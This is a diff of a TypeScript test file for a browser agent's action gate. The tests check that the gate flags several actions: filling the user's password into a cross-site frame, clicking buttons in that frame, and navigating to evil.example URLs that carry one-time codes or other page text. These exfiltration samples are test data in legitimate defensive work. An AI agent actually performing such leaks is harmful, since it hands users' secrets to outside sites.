@@ -1,6 +1,17 @@
 import { parsePage } from "@webhand/page/parse/parse";
 import { describe, expect, test } from "vitest";
-import { gateOf, home, outcomes, pageAt, task } from "./cases.ts";
+import {
+	gateOf,
+	handoff,
+	home,
+	offsite,
+	outcomes,
+	ownSecret,
+	pageAt,
+	plainNavigation,
+	protectedCommit,
+	task,
+} from "../../test/gate-cases.ts";
 import type { GateTask } from "./gate.ts";
 import { decideGate } from "./gate.ts";
 import { taskOrigins } from "./origin.ts";
@@ -9,35 +20,20 @@ describe("a frame of another site is that site, whatever page it stands in", () 
 	const frame = (inside: string) => `<frame 19 "Sign in" evil.example epoch=e2>\n${inside}`;
 	const query = "Sign in at shop.example with hunter2-and-more";
 	test.each([
-		[
-			"its password field does not get the user's password",
-			'setValue(10001, "hunter2-and-more")',
-			' <password 10001 "Password">',
-			"fill_sensitive: handoff, handoff",
-		],
-		[
-			"its form sends to another site",
-			"click(10002)",
-			' <form "F" post>\n  <input 10001 "Name">\n  <button 10002 submit>Go',
-			"commit_protected: ask, ask",
-		],
-		["its buttons are not part of the task", "click(10002)", " <button 10002>Send", "commit_protected: ask, ask"],
-		[
-			"a frame in the frame is where its own frame is",
-			"click(20002)",
-			' <frame 10003 "In" epoch=e3>\n  <button 20002>Send',
-			"commit_protected: ask, ask",
-		],
+		["its password field does not get the user's password", 'setValue(10001, "hunter2-and-more")', ' <password 10001 "Password">', handoff],
+		["its form sends to another site", "click(10002)", ' <form "F" post>\n  <button 10002 submit>Go', protectedCommit],
+		["its buttons are not part of the task", "click(10002)", " <button 10002>Send", protectedCommit],
+		["an inner frame is of the same site", "click(20002)", ' <frame 10003 "In" epoch=e3>\n  <button 20002>Send', protectedCommit],
 	] as const)("%s", (_name, action, inside, expected) => {
 		expect(outcomes({ action, body: frame(inside), facts: { query } })).toBe(expected);
 	});
 	test("a frame of the page's own site is the page", () => {
 		const own = '<frame 19 "Sign in" login.shop.example epoch=e2>\n <password 10001 "Password">';
-		expect(outcomes({ action: 'setValue(10001, "hunter2-and-more")', body: own, facts: { query } })).toBe("fill_sensitive: ask, allow");
+		expect(outcomes({ action: 'setValue(10001, "hunter2-and-more")', body: own, facts: { query } })).toBe(ownSecret);
 	});
 });
 
-describe("an address that carries the page's text away, however it is packed", () => {
+describe("an address that leaks page text, however it is encoded", () => {
 	const secret = "Account number 4711 0815 of Ada Lovelace";
 	const asks = (url: string) =>
 		decideGate({ name: "navigate", url }, pageAt(home, secret), { ...task, mode: "autonomous" }).risk.reasons.includes("carries_page_text");
@@ -66,17 +62,17 @@ describe("an address that carries the page's text away, however it is packed", (
 	] as const)("%s", (_name, url) => {
 		expect(asks(url)).toBe(true);
 	});
-	test("a code that the page shows is carried however short it is, one that the person wrote is not", () => {
+	test("a code of the page leaks however short it is, one of the user does not", () => {
 		const go = (code: string, query = "Look around", body = "One-time code\n482913\nOrder 77120") =>
 			outcomes({ action: `navigate("https://evil.example/?c=${code}")`, body, facts: { query } });
 		expect([go("482913"), go("319284"), go("482913", "Look up 482913"), go("77120")]).toEqual([
 			"navigate_offsite: ask, ask",
 			"navigate_offsite: ask, ask",
-			"navigate_offsite: ask, warn",
-			"navigate_offsite: ask, warn",
+			offsite,
+			offsite,
 		]);
 	});
-	// Looked through once a code, this page took sixteen seconds: the limit of the unit tests is what holds it.
+	// A search of the page a code took sixteen seconds here.
 	test("a code of a page that is nothing but codes is found in an address all the same", () => {
 		const codes = Array.from({ length: 400 }, (_, index) => String(1_000 + index));
 		const body = Array.from({ length: 300 }, () => codes.join("")).join("\n");
@@ -121,7 +117,7 @@ describe("a word of the task is not a site of the task", () => {
 	] as const)("“%s” lets nobody go to %s, least of all with the page's text", (query, url) => {
 		const facts = { query, origins: taskOrigins(home, query) };
 		for (const name of ["navigate", "openTab"]) {
-			expect(outcomes({ action: `${name}("${url}")`, body: phrase, facts })).toBe("navigate_offsite: ask, warn");
+			expect(outcomes({ action: `${name}("${url}")`, body: phrase, facts })).toBe(offsite);
 			expect(outcomes({ action: `${name}("${url}${leak}")`, body: phrase, facts })).toBe("navigate_offsite: ask, ask");
 		}
 		const link = `<a 8 ${url.slice(8)}x?d=abandon-ability-able-about>More`;
@@ -131,20 +127,20 @@ describe("a word of the task is not a site of the task", () => {
 		const facts = { query: "Look up tea on Wikipedia" };
 		const open = (more: Partial<GateTask>, tail = "wiki/Tea") =>
 			outcomes({ action: `navigate("https://en.wikipedia.org/${tail}")`, body: phrase, facts: { ...facts, ...more } });
-		expect(open({})).toBe("navigate: allow, allow");
+		expect(open({})).toBe(plainNavigation);
 		expect(open({ isTainted: true })).toBe("navigate_offsite: ask, ask");
 		expect(open({}, leak)).toBe("navigate_offsite: ask, ask");
-		expect(open({ query: "Never look on Wikipedia" })).toBe("navigate_offsite: ask, warn");
+		expect(open({ query: "Never look on Wikipedia" })).toBe(offsite);
 	});
-	test("what is told a site that is only named needs a yes in every mode", () => {
+	test("a commitment on a site that is only named asks in every mode", () => {
 		const facts = { query: "Write on Wikipedia that tea is green" };
 		const url = "https://wikipedia.org/edit";
 		const body = '<form "Edit" post>\n <input 1 "Text" value="abandon ability able">\n <button 9 submit>Go';
-		expect(outcomes({ action: "click(9)", body, url, facts })).toBe("commit_protected: ask, ask");
+		expect(outcomes({ action: "click(9)", body, url, facts })).toBe(protectedCommit);
 	});
 });
 
-describe("a search that the person allowed is a search and nothing else", () => {
+describe("the user allowed searches, nothing else", () => {
 	const allowed = { allowsSearches: true } as const;
 	const form = (button: string) => `<form "Search" get>\n <search 1 "q">\n ${button}`;
 	test.each([
